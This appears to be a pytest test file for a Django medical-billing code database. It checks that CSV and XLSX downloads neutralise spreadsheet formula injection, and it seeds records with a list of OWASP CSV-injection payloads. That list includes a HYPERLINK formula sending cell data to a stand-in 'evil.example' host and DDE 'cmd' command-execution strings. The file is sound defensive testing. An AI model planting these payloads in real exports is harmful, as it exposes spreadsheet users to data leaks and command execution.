"""Every download (each index, policy updates, conversion factors, an estimate's steps) is safe
to open in a spreadsheet: text that editors or imports wrote and that would run as a formula is
written as text that cannot run (codes/exports.py), with the OWASP list of CSV-injection
payloads in every column that editors or imports can write; codes and numbers stay what they
are."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from codes import exports
from codes.models import (
    ConversionFactor,
    CptCode,
    Icd10Code,
    Modifier,
    Payer,
    PayerRule,
    PlaceOfService,
    PolicyUpdate,
    ProviderTaxonomy,
)

from .conftest import make_cpt

pytestmark = pytest.mark.django_db

# OWASP "CSV Injection" payloads, and the one an outside check used on the payers' export.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(cpt_00620):
    """A record of every kind that has a download, with a payload in every text column that
    editors or imports write."""
    p = iter(PAYLOADS * 3)
    make_cpt(code="10021", title=next(p), section=next(p), service_type="surgery")
    Modifier.objects.filter(code="QS").update(name=next(p))
    ProviderTaxonomy.objects.create(
        code="999X00000X", grouping=next(p), classification=next(p), specialization=next(p)
    )
    Icd10Code.objects.create(code="U99", description=next(p), kind="category", billable=True)
    payer = Payer.objects.create(name=next(p), slug="hostile")
    PlaceOfService.objects.create(code="98", name=next(p))
    PolicyUpdate.objects.create(
        cpt=cpt_00620, payer=payer, date=date(2026, 1, 2), summary=next(p), reference=next(p)
    )
    PayerRule.objects.create(payer=payer, source=next(p), time_source=next(p))
    ConversionFactor.objects.create(
        payer=payer,
        label=next(p),
        effective_from=date(2026, 1, 1),
        amount=Decimal("50"),
        source=next(p),
    )


DOWNLOADS = [
    "/codes/",
    "/icd10/codes/?chapter=&billable=true&sort=-code",
    "/modifiers/",
    "/taxonomies/",
    "/payers/",
    "/places-of-service/",
    "/policy-updates/",
    "/conversion-factors/",
    "/codes/00620/estimate/?minutes=176&modifiers=AA&payer=hostile&payer=medicare&dos=2026-03-02",
]


def download(client, url: str, export_format: str) -> bytes:
    joiner = "&" if "?" in url else "?"
    response = client.get(f"{url}{joiner}_export={export_format}")
    assert response.status_code == 200, url
    return response.content


@pytest.mark.parametrize("url", DOWNLOADS)
def test_no_csv_cell_runs_as_a_formula(client, hostile, url):
    cells = [
        cell
        for row in csv.reader(io.StringIO(download(client, url, "csv").decode()))
        for cell in row
    ]
    assert not [cell for cell in cells if exports.runs(cell)]
    # The payloads are there, behind the quote that keeps them text.
    assert any(cell.startswith("'") and cell[1:] in PAYLOADS for cell in cells), url


@pytest.mark.parametrize("url", DOWNLOADS)
def test_no_xlsx_cell_is_a_formula(client, hostile, url):
    sheet = load_workbook(io.BytesIO(download(client, url, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # (XML reads a carriage return back as a newline.)
    written = {payload.replace("\r", "\n") for payload in PAYLOADS}
    assert any(cell.value in written and cell.data_type == "s" for cell in cells), url


def test_codes_and_numbers_stay_what_they_are(client, hostile):
    rows = list(csv.reader(io.StringIO(download(client, "/codes/?article=yes", "csv").decode())))
    assert rows[1][0] == "00620" and rows[1][4] == "10"  # the code, its base units
    sheet = load_workbook(io.BytesIO(download(client, "/codes/?article=yes", "xlsx"))).active
    assert sheet["A2"].value == "00620" and sheet["A2"].data_type == "s"  # its zeros kept
    assert sheet.title == "CPT codes" and sheet.freeze_panes == "A2"
    assert exports.csv_cell("M48.0-") == "M48.0-" and exports.csv_cell("-12.50") == "-12.50"
    assert exports.csv_cell("-2+3") == "'-2+3"


def test_only_the_offered_formats_are_served(client, content):
    # django-tables2 would also answer json, latex, ods, tsv, xls and yaml.
    for fmt in ["json", "yaml", "tsv", "ods", "latex", "xls"]:
        response = client.get("/payers/", {"_export": fmt})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


def test_an_article_title_an_editor_wrote_comes_back_the_same_after_the_quote(client, hostile):
    rows = list(csv.reader(io.StringIO(download(client, "/codes/?article=yes", "csv").decode())))
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["10021"] == "'" + CptCode.objects.get(code="10021").title
